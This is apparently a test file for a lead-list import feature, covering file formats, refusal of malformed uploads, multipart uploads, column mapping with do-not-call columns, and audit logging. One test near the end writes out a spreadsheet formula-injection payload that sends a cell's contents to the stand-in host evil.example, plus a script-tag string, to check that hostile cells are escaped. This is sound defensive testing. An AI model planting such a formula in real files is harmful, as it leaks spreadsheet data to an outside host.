/** Which files are accepted, and what is said about the others. */
import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { FILE_PART_BYTES } from '#contract/imports/imports.ts'
import { writeWorkbook } from '#server/platform/files/workbook.ts'
import { leadFile, withLeadFiles } from '#testing/lead-files.ts'
import { withStore } from '#testing/with-store.ts'

const store = withStore()
const files = withLeadFiles(store)

const ROW = { address: '12 Main St' }

describe('a file', () => {
  test('is read as it is, compressed, in tabs under a title, or as a workbook, and shows its columns', async () => {
    const text = leadFile(files, [ROW])
    const packed = gzipSync(`\uFEFF${text.replaceAll('\n', '\r\n')}\r\n,,,,,,,\n\r\n`)
    const tabs = Buffer.from(`\uFEFFTravis vacant\n${text.replaceAll(',', '\t')}`, 'utf16le')
    const rows = text.split('\n').map((line) => line.replaceAll('"', '').split(','))
    for (const file of [text, packed, tabs, Buffer.from(writeWorkbook('Leads', rows))]) {
      const importId = await files.send(file)
      const opened = await files.open(importId)
      expect(opened.body).toMatchObject({
        import: { state: 'mapping' },
        columns: expect.arrayContaining([
          { name: 'Address', examples: ['12 Main St'], isContact: false, mayForbidCalls: false },
        ]),
        mapping: { address: { column: 'Address' }, fips: { column: 'FIPS' }, phone1: { column: 'Phone' } },
      })
      const checked = await files.check(importId, opened.body.mapping)
      expect(checked).toMatchObject({ state: 'ready', preview: { newLeads: 1 } })
    }
  })

  test.each([
    ['nothing', '', 'The file is empty.'],
    ['no header', 'Ann Smith,12 Main St,Austin,78701,ann@example.com\n', 'must be a header'],
    ['a quote that is never closed', 'Address,City,Zip\n"12 Main St,Austin,78701\n', 'never closed'],
    ['a damaged archive', gzipSync('Address,City,Zip\n').subarray(0, 20), 'cannot be unpacked'],
    ['a header and no rows', 'Address,City,Zip\n', 'a header and no rows'],
  ])('with %s is refused when it is opened, and the import keeps the reason', async (_, file, message) => {
    const importId = await files.send(file)
    const opened = await files.open(importId)
    expect(opened).toMatchObject({ status: 400, body: { code: 'file_refused' } })
    expect(opened.body.message).toContain(message)
    expect(await files.read(importId)).toMatchObject({ state: 'refused', problem: opened.body.message, columns: [] })
  })

  test('with an open quote further down is refused by its dry run and leaves nothing behind', async () => {
    const before = await files.fingerprint()
    const text = leadFile(files, [ROW, { address: '14 Main St' }])
    const checked = await files.bring(`${text.repeat(1_500)}"a,,,,,,,\n`)
    expect(checked.state).toBe('refused')
    expect(checked.problem).toContain('never closed')
    expect((await files.apply(checked.id)).code).toBe('import_not_ready')
    expect(await files.fingerprint()).toEqual(before)
    expect(await files.partitions()).not.toContain(checked.id)
  })

  test('waits for all of its parts, and accepts each of them again', async () => {
    // Long rows, because each takes its time.
    const owner = 'x'.repeat(190)
    const rows = Array.from({ length: 10_000 }, (_, index) => ({ address: `${index + 1} Main St`, owner }))
    const bytes = Buffer.from(leadFile(files, rows))
    expect(bytes.length).toBeGreaterThan(FILE_PART_BYTES)
    const importId = await files.announce(bytes.length)
    await files.sendPart(importId, 1, bytes.subarray(FILE_PART_BYTES))
    expect((await files.open(importId)).body).toMatchObject({ code: 'import_not_ready' })
    await files.sendPart(importId, 0, Buffer.alloc(FILE_PART_BYTES, 'x'))
    const again = await files.sendPart(importId, 0, bytes.subarray(0, FILE_PART_BYTES))

    expect(again.body).toEqual({ bytesReceived: bytes.length })
    const opened = await files.open(importId)
    expect(opened.status).toBe(200)
    expect((await files.sendPart(importId, 1, Buffer.from('x'))).body.code).toBe('import_not_ready')
    expect((await files.check(importId, opened.body.mapping)).preview.newLeads).toBe(10_000)
  })

  test('is refused if its parts are too large', async () => {
    const importId = await files.announce(10 * 2 ** 20)
    const tooLarge = await files.sendPart(importId, 0, Buffer.alloc(10 * 2 ** 20, 'a,b,c\n'))
    expect(tooLarge).toMatchObject({ status: 413, body: { code: 'body_too_large' } })
    expect((await files.sendPart(importId, 256, Buffer.from('x'))).status).toBe(400)
    expect((await files.read(importId)).bytesReceived).toBe(0)
  })
})

describe('a mapping', () => {
  test('is refused if a needed field is missing, or nobody decided about a column that may forbid calls', async () => {
    const importId = await files.send(leadFile(files, [ROW]).replace('Phone', 'Litigator'))
    const { mapping } = (await files.open(importId)).body
    const { doNotCall: _mark, ...rest } = mapping
    const answers = [{ ...mapping, address: undefined }, rest].map((tried) => files.check(importId, tried))
    const messages = (await Promise.all(answers)).map(({ code, message }) => `${code}: ${message}`)
    expect(messages[0]).toMatch(/^mapping_invalid: Choose the column for “Property address”/)
    expect(messages[1]).toMatch(/^mapping_invalid: “Litigator” may say who must not be called/)
    expect(await files.check(importId, { ...rest, setAside: { column: 'Litigator' } })).toMatchObject({
      state: 'ready',
    })
  })

  test('is remembered for its source, if the columns exist', async () => {
    const file = leadFile(files, [{ address: '1 Remembered St' }]).replace('Address,', 'Where it is,')
    const importId = await files.send(file, 'Remembered Records')
    const first = await files.open(importId)
    expect(first.body.mapping.address).toBeUndefined()
    await files.check(importId, { ...first.body.mapping, address: { column: 'Where it is' } })
    const again = await files.open(await files.send(file, 'Remembered Records'))
    const other = await files.open(await files.send(file, 'Other Records'))
    expect(again.body).toMatchObject({ isRemembered: true, mapping: { address: { column: 'Where it is' } } })
    expect(other.body).toMatchObject({ isRemembered: false })
    expect((await files.admin.call('GET', '/api/admin/lead-sources')).body).toContain('Remembered Records')
  })

  test('adds a column that is new in the source’s files, and still leaves out what was left out', async () => {
    const text = leadFile(files, [{ address: '1 Grown St' }])
      .replaceAll('\n', ',x@example.com\n')
      .replace('Phone,x@example.com', 'Phone,Email')
    const first = await files.send(text, 'Grown Records')
    const { email1: _left, ...mapping } = (await files.open(first)).body.mapping
    await files.check(first, mapping)
    const grown = text.replaceAll('\n', ',y\n').replace('Email,y', 'Email,DNC')
    const opened = await files.open(await files.send(grown, 'Grown Records'))
    expect(opened.body).toMatchObject({ isRemembered: true, mapping: { ...mapping, doNotCall: { column: 'DNC' } } })
    expect(opened.body.mapping).not.toHaveProperty('email1')
  })
})

test('hostile cells appear escaped in the report of refused rows', async () => {
  const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
  const checked = await files.bring(
    `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2,3,4,5,6,7,8,9,10\n`,
  )
  const report = await files.admin.call('GET', `/api/admin/imports/${checked.id}/refused.csv`)
  expect(checked).toMatchObject({ state: 'ready', refusedRows: 2, preview: { refused: { formula: 1, cells: 1 } } })
  const [header, first, second] = report.body.split('\r\n')
  expect(header).toBe('\uFEFFrow,reason,line')
  expect(first).toContain(`3,"This row has a cell that begins like a formula (=, +, - or @).","'=HYPERLINK(`)
  expect(second).toContain('4,This row has more cells than the header has columns.')
  expect(second).toContain("'+1")
  expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
})

test('hostile cells are kept and shown unchanged if they are harmless', async () => {
  const owner = '<script>alert(1)</script> \\N {a,b} "x"'
  const checked = await files.bringRows([{ address: '2 Hostile St', owner }], { source: 'O’Hare, "Best" \\ Records' })
  const preview = await files.admin.call('POST', `/api/admin/imports/${checked.id}/preview`)
  expect(preview.body).toMatchObject([
    {
      ownerNames: [owner],
      address: '2 Hostile St',
      county: 'Travis',
      source: 'O’Hare, "Best" \\ Records',
      verdict: 'new',
    },
  ])
})

test('each look of an administrator at rows is logged', async () => {
  const checked = await files.bringRows([{ address: '1 Watched St' }], { source: 'Watched' })
  await files.admin.call('POST', `/api/admin/imports/${checked.id}/preview`)
  await files.admin.call('GET', `/api/admin/imports/${checked.id}/refused.csv`)
  const entries = (await files.admin.call('GET', '/api/admin/audit?action=lead_rows_seen&limit=3')).body
  expect(entries.map(({ after }: { after: { what: string; source: string } }) => [after.source, after.what])).toEqual([
    ['Watched', 'the refused rows'],
    ['Watched', 'the first rows'],
    ['Watched', 'examples of each column'],
  ])
  expect(JSON.stringify(entries)).not.toContain('Watched St')
})
